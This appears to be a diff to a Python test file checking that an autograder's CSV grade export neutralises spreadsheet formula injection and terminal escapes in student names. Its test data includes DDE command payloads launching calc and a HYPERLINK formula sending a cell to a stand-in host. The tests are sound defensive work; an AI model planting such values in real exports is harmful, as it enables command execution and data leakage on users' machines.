@@ -17,7 +17,7 @@ from autograder.nbgrader_bridge.export import SafeCsvExport, harmless
 from autograder.nbgrader_bridge.scores import scores
 from autograder.nbgrader_bridge.store import ReportStore
 from autograder.reports.model import Report
-from tests.bridge.tiny import RIGHT, FakeGrader, answered, configure, hand_in
+from tests.bridge.tiny import RIGHT, FakeGrader, answered, configure, hand_in, nbgrader
 
 # Raised by nbgrader's own queries.
 pytestmark = pytest.mark.filterwarnings("ignore::sqlalchemy.exc.SAWarning")
@@ -165,15 +165,45 @@ class TestExport:
         with Path("grades.csv").open(newline="") as file:
             (row,) = csv.DictReader(file)
         assert row["last_name"] == '\'=cmd|"/c calc"!A1'
-        assert (row["first_name"], row["email"], row["score"]) == ("A, B\n+1", "'@x", "6.0")
+        assert (row["first_name"], row["email"], row["score"]) == (r"A, B\n+1", "'@x", "6.0")
 
-    @pytest.mark.parametrize("value", ["=1", "+1", "-1", "@x", "\tx", "\rx", " =1"])
-    def test_text_that_looks_like_one_gets_an_apostrophe(self, value: str) -> None:
-        assert harmless(value) == "'" + value
+    @pytest.mark.parametrize(
+        "value", ["=1", "+1", "-1", "@x", "\tx=1", "\r=1", " =1", "\x00=1", "＝1", "\u202e=1", "|x", "%x"]
+    )
+    def test_text_that_looks_like_one_begins_with_something_else(self, value: str) -> None:
+        shown = harmless(value)
+        assert shown[0] in "'\\" and shown.isprintable()
 
     @pytest.mark.parametrize(("value", "written"), [("a=1", "a=1"), (-1.5, -1.5), (None, ""), ("", "")])
     def test_everything_else_stays(self, value: object, written: object) -> None:
         assert harmless(value) == written
+
+    NAMES = (
+        "=HYPERLINK(\"http://e/\"&A1)", "+cmd|' /C calc'!A1", "-2+3", "@SUM(1)", "\t=1", "\r\n=1", "x;=1", "x\t=1",
+        "x,=1", "x\n=1,2", 'x",=1', "O'Brien, \"Bob\"", "\x1b]0;x\x07=1", "＝1+1", "a\u2028=1",
+    )  # fmt: skip
+
+    @pytest.mark.parametrize("separator", [",", ";", "\t"])
+    def test_no_name_becomes_a_formula_or_a_field_of_its_own(self, course: Course, separator: str) -> None:
+        """First and last name and e-mail, read back with whatever separator a spreadsheet guesses."""
+        with Gradebook(f"sqlite:///{course.root / 'gradebook.db'}") as book:
+            for number, name in enumerate(self.NAMES):
+                book.update_or_create_student(f"s{number:02}", first_name=name, last_name=name, email=name)
+        nbgrader(course, "export", "--to", "out.csv")
+        with (course.root / "out.csv").open(newline="", encoding="utf-8") as file:
+            rows = list(csv.reader(file, delimiter=separator))
+        fields = [field for row in rows for field in row]
+        assert len(rows) == 1 + len(self.NAMES)
+        assert [field for field in fields if field.lstrip().startswith(("=", "+", "-", "@", "＝", "\t", "\r"))] == []
+        if separator == ",":
+            assert {len(row) for row in rows} == {12}
+            names = {row[3]: row[4:7] for row in rows}
+            assert names["s11"] == [self.NAMES[11]] * 3 == ['O\'Brien, "Bob"'] * 3
+
+    def test_who_handed_in_and_is_not_recorded_is_named(self, course: Course, release: Releases) -> None:
+        hand_in(course, "-odd\x1b[2J", "one", release["one"])
+        said = nbgrader(course, "export", "--to", "out.csv")
+        assert "Not in the export" in said and "-odd" in said and "\x1b[2J" not in said
 
 
 def test_the_gradebook_can_be_made_without_the_environment_on_the_path(
